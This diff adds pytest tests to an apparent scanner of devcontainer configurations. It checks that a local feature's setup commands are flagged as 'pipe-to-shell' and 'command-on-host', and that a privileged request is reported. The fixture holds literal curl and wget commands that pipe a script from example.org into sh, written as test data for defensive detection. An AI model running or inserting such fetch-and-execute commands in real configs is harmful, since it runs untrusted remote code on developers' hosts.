@@ -250,3 +250,34 @@ def test_show_and_files_know_it(tmp_path: Path, capsys: pytest.CaptureFixture[st
     assert "not analysed" not in shown
     assert main(["files", str(tmp_path)]) == 0
     assert "devcontainer" in capsys.readouterr().out
+
+
+FEATURE = """\
+{
+  "id": "own",
+  "postCreateCommand": "curl https://example.org/i.sh | sh",
+  "initializeCommand": "wget -qO- https://example.org/i.sh | sh"
+}
+"""
+
+
+@pytest.mark.parametrize("said", ['"image": "a:1.2.3"', '"dockerComposeFile": "../compose.yaml", "service": "app"'])
+def test_the_commands_of_a_feature_that_is_here_are_read(tmp_path: Path, said: str) -> None:
+    files = {
+        ".devcontainer/devcontainer.json": f'{{{said}, "features": {{"./own": {{}}}}}}',
+        ".devcontainer/own/devcontainer-feature.json": FEATURE,
+        "compose.yaml": "services: {app: {image: 'a:1.2.3'}}\n",
+    }
+    result = judge(tmp_path, files)
+    places = [(f.location.path, f.location.line) for f in named(result, "pipe-to-shell", "command-on-host")]
+    assert places == [(".devcontainer/own/devcontainer-feature.json", 3)]
+    assert result.coverage.unjudged == ()
+
+
+def test_what_a_feature_asks_of_a_service_is_told(tmp_path: Path) -> None:
+    files = {
+        ".devcontainer/devcontainer.json": '{"dockerComposeFile": "../compose.yaml", "service": "app", "features": {"./own": {}}}',
+        ".devcontainer/own/devcontainer-feature.json": '{"id": "own", "privileged": true}',
+        "compose.yaml": "services: {app: {image: 'a:1.2.3'}}\n",
+    }
+    assert [item.cause for item in judge(tmp_path, files).coverage.unjudged] == ["generator"]
